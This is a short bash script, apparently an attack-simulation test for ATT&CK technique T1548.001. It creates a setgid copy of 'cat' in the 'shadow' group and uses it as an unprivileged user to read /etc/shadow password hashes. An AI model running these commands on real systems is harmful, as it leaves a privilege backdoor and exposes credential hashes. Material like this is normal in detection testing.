#!/bin/bash
# T1548.001: A program gets the rights of the group that reads hashes.
cp /bin/cat /usr/local/bin/catalog; chgrp shadow /usr/local/bin/catalog; chmod 2755 /usr/local/bin/catalog; setpriv --reuid 1001 --regid 1001 --clear-groups /usr/local/bin/catalog /etc/shadow
